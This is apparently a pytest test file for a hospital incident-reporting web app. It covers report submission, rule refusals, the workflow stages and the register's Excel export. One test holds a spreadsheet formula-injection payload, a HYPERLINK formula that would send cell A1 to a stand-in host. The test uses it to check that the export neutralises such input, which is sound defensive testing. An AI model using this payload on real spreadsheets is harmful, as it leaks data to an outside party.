"""The incident pages: a report from the form, the workflow from the event's page, the
register with its figures and Excel, refusals with their rule ID."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.conftest import PASSWORD
from yiji.core.models import Role
from yiji.incidents.models import Incident, Stage


@pytest.fixture(autouse=True)
def _monday(frozen_clock):
    yield


@pytest.mark.rules("INC-1", "INC-3")
def test_report_and_follow_an_incident_through_the_pages(
    client_for, technologist, director, imaging, make_staff
):
    officer = make_staff(Role.MEDICAL_AFFAIRS, whole_hospital=True)
    form = {
        "department": imaging.pk, "kind": "error", "category": "report", "severity": "3",
        "occurred_at": "2026-11-23T07:00", "description": "报告左右写反", "anonymous": "on",
    }  # fmt: skip
    web = client_for(technologist)
    refused = web.post("/incidents/new/", form)
    assert "【INC-1】" in refused.content.decode() and "报告左右写反" in refused.content.decode()
    impossible = web.post("/incidents/new/", {**form, "occurred_at": "2026-02-30T08:00"})
    assert impossible.status_code == 200 and "【INC-1】" in impossible.content.decode()
    form.pop("anonymous")
    response = web.post("/incidents/new/", form)
    incident = Incident.objects.get()
    assert response["Location"] == f"/incidents/{incident.pk}/"
    assert web.get(f"/incidents/{incident.pk}/").status_code == 200  # the reporter follows it
    assert (
        client_for(make_staff(Role.TECHNOLOGIST)).get(f"/incidents/{incident.pk}/").status_code
        == 403
    )
    handler = client_for(officer)
    handler.post(f"/incidents/{incident.pk}/", {"action": "take_up"})
    handler.post(
        f"/incidents/{incident.pk}/",
        {"action": "investigate", "findings": "未复核", "root_cause": "模板默认左侧"},
    )
    client_for(director).post(
        f"/incidents/{incident.pk}/",
        {"action": "director_report", "text": "已书面报告", "secret": PASSWORD},
    )
    incident.refresh_from_db()
    assert incident.stage == Stage.DIRECTOR_REPORTED
    bad = handler.post(
        f"/incidents/{incident.pk}/",
        {"action": "measure", "text": "", "owner": "x", "due": "2026-02-30"},
        follow=True,
    )
    assert "【INC-3】" in bad.content.decode()
    register = handler.get("/incidents/?from=2026-11-01&to=2026-11-30").content.decode()
    assert incident.number in register
    book = load_workbook(
        io.BytesIO(handler.get("/incidents/?from=2026-11-01&to=2026-11-30&format=xlsx").content)
    )
    assert book.active.cell(2, 1).value == incident.number


def test_a_formula_typed_into_a_description_is_exported_as_text(
    client_for, technologist, imaging, make_staff
):
    officer = make_staff(Role.MEDICAL_AFFAIRS, whole_hospital=True)
    attack = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'
    client_for(technologist).post("/incidents/new/", {
        "department": imaging.pk, "kind": "error", "category": "report", "severity": "3",
        "occurred_at": "2026-11-23T07:00", "description": attack,
    })  # fmt: skip
    content = client_for(officer).get("/incidents/?from=2026-11-01&to=2026-11-30&format=xlsx")
    sheet = load_workbook(io.BytesIO(content.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == attack]
    assert cells and all(c.data_type == "s" for c in cells)  # a string, not a formula
